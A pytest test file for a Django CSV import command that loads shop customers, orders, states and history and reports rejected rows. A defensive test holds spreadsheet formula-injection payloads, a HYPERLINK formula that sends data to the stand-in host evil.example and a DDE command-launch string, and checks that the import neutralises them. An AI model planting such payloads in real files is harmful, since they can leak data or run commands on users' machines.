"""`comptoir import`: shop data from CSV files, with progress, a summary and the rejected rows."""

import csv

import pytest
from django.core.management import CommandError, call_command

from comptoir.shop.models import Customer, Order, OrderHistory, OrderState
from comptoir.testing import make_thread

pytestmark = pytest.mark.django_db


def write(path, rows, delimiter=","):
    with path.open("w", newline="", encoding="utf-8-sig") as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerows(rows)
    return path


ORDER_COLUMNS = [
    "external_id", "reference", "customer", "created_at", "currency", "total_paid", "valid",
    "state",
]  # fmt: skip


@pytest.fixture
def files(tmp_path):
    customers = write(
        tmp_path / "customers.csv",
        [
            ["external_id", "email", "first_name", "last_name", "language", "is_guest"],
            ["1", "alice@example.com", "Alice", "Doe", "fr", "0"],
            ["2", "not-an-address", "Bob", "Roe", "en", "0"],
            ["3", "chloe@example.com", "Chloé", "Durand", "", "yes"],
        ],
        delimiter=";",  # as a French spreadsheet writes it
    )
    states = write(
        tmp_path / "states.csv",
        [
            ["external_id", "name_en", "name_fr", "color", "counts_as_valid"],
            ["4", "Shipped", "Expédiée", "#32CD32", "true"],
        ],
    )
    orders = write(
        tmp_path / "orders.csv",
        [
            ORDER_COLUMNS,
            ["10", "XKBKNABJK", "1", "2026-11-20 10:00:00", "EUR", "49.90", "1", "4"],
            ["11", "OHSATSERP", "2", "2026-11-21 10:00:00", "EUR", "15.00", "1", ""],
            ["12", "QWERTYUIO", "3", "not a date", "EUR", "15.00", "1", ""],
        ],
    )
    history = write(
        tmp_path / "history.csv",
        [["external_id", "order", "state", "created_at"], ["100", "10", "4", "2026-11-22 08:00"]],
    )
    return customers, states, orders, history


def run(capsys, *args):
    status, message = 0, ""
    try:
        call_command("import", *map(str, args))
    except CommandError as exc:
        status, message = exc.returncode, str(exc)
    out, err = capsys.readouterr()
    return status, out, err + message


def test_it_loads_every_file_in_order_and_reports_each_rejected_row(files, capsys, tmp_path):
    customers, states, orders, history = files
    rejected = tmp_path / "rejected.csv"
    status, out, err = run(
        capsys,
        "--orders", orders, "--customers", customers, "--order-states", states,
        "--order-history", history, "--rejected", rejected,
    )  # fmt: skip
    assert status == 1  # some rows were rejected
    assert "customers: 2 created, 0 updated, 1 rejected" in out
    assert "order-states: 1 created, 0 updated, 0 rejected" in out
    assert "orders: 1 created, 0 updated, 2 rejected" in out
    assert "order-history: 1 created, 0 updated, 0 rejected" in out
    assert "customers line 3 (id 2): email: Invalid email address." in out
    assert "orders line 3 (id 11): customer: Unknown customer 2" in out
    assert "orders line 4 (id 12): created_at:" in out
    assert "3/3" in err  # the progress line
    assert Customer.objects.get(external_id="3").is_guest
    assert Customer.objects.get(external_id="1").language == "fr"
    assert OrderState.objects.get().name == {"en": "Shipped", "fr": "Expédiée"}
    order = Order.objects.get(external_id="10")
    assert order.current_state is not None
    assert order.current_state.external_id == "4"
    assert OrderHistory.objects.count() == 1
    kept = list(csv.reader(rejected.open(encoding="utf-8")))
    assert kept[0] == ["file", "line", "external_id", "field", "message"]
    assert len(kept) == 4


def test_running_it_twice_updates_and_creates_nothing_new(files, capsys):
    customers, states, _orders, _history = files
    run(capsys, "--customers", customers, "--order-states", states)
    _status, out, _err = run(capsys, "--customers", customers, "--order-states", states)
    assert "customers: 0 created, 2 updated, 1 rejected" in out
    assert Customer.objects.count() == 2


def test_known_threads_get_their_customer(files, capsys):
    thread = make_thread(email="alice@example.com")
    run(capsys, "--customers", files[0])
    thread.refresh_from_db()
    assert thread.customer_id == Customer.objects.get(external_id="1").pk


def test_a_clean_file_exits_0_and_a_missing_file_2(tmp_path, capsys):
    good = write(tmp_path / "c.csv", [["external_id", "email"], ["1", "a@example.com"]])
    assert run(capsys, "--customers", good)[0] == 0
    status, _out, err = run(capsys, "--customers", tmp_path / "missing.csv")
    assert status == 2
    assert "no such file" in err


# --- hostile files (issue 17, point 11) -----------------------------------------------------------


def test_a_nul_character_refuses_its_row_by_line_and_keeps_the_good_rows(tmp_path, capsys):
    customers = write(
        tmp_path / "customers.csv",
        [
            ["external_id", "email", "first_name", "last_name"],
            ["1", "alice@example.com", "Alice", "Doe"],
            ["2", "bob@example.com", "Bob", "R\x00oe"],
            ["3", "chloe@example.com", "Chloé", "Durand"],
        ],
    )

    status, out, _err = run(capsys, "--customers", customers)

    assert status == 1
    assert "customers: 2 created, 0 updated, 1 rejected" in out
    assert "customers line 3 (id 2): last_name: Null characters are not allowed." in out
    assert set(Customer.objects.values_list("external_id", flat=True)) == {"1", "3"}


def test_a_field_longer_than_the_csv_reader_takes_refuses_its_line_only(tmp_path, capsys):
    customers = write(
        tmp_path / "customers.csv",
        [
            ["external_id", "email", "first_name"],
            ["1", "alice@example.com", "Alice"],
            ["2", "bob@example.com", "B" * 140_000],
            ["3", "chloe@example.com", "Chloé"],
        ],
    )

    status, out, _err = run(capsys, "--customers", customers)

    assert status == 1
    assert "customers: 2 created, 0 updated, 1 rejected" in out
    assert (
        "customers line 3 (id ?): line: This line cannot be read: a field is longer than "
        "131,072 characters." in out
    )
    assert set(Customer.objects.values_list("external_id", flat=True)) == {"1", "3"}


def test_the_rejected_file_cannot_run_a_formula_in_a_spreadsheet(tmp_path, capsys):
    customers = write(
        tmp_path / "customers.csv",
        [
            ["external_id", "email", "@SUM(A1)"],
            ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "nope", "x"],
            ["+cmd|' /C calc'!A0", "nope", ""],
            ["-2+3", "nope", ""],
            ["\t=1+1", "nope", ""],
            ["\r=1+1", "nope", ""],
        ],
    )
    rejected = tmp_path / "rejected.csv"

    run(capsys, "--customers", customers, "--rejected", rejected)

    kept = list(csv.reader(rejected.open(encoding="utf-8", newline="")))
    cells = [cell for row in kept[1:] for cell in row]
    assert cells, kept
    dangerous = [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert dangerous == []
    ids = {row[2] for row in kept[1:]}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in ids
    assert "'-2+3" in ids
    assert "'@SUM(A1)" in {row[3] for row in kept[1:]}


def test_a_row_the_database_refuses_loses_only_itself_not_its_batch():
    """A row past its schema that the database still refuses (here a name longer than its
    column, built without validation): PostgreSQL and MariaDB refuse it, SQLite stores it."""
    from django.db import connection

    from comptoir.shop.csv_import import KINDS, _upsert
    from comptoir.shop.sync import CustomerIn

    customers = next(kind for kind in KINDS if kind.name == "customers")
    rows = [
        (0, CustomerIn(external_id="1", email="alice@example.com")),
        (1, CustomerIn.model_construct(
            external_id="2", email="bob@example.com", first_name="B" * 400, last_name="",
            is_guest=False, language="en", created_at=None,
        )),
        (2, CustomerIn(external_id="3", email="chloe@example.com")),
    ]  # fmt: skip

    report = _upsert(customers, rows)

    stored = set(Customer.objects.values_list("external_id", flat=True))
    if connection.vendor == "sqlite":
        assert stored == {"1", "2", "3"}
    else:
        assert stored == {"1", "3"}
        assert [(r.index, r.external_id) for r in report.rejected] == [(1, "2")]
        assert "The database refused this row" in report.rejected[0].errors[0].message
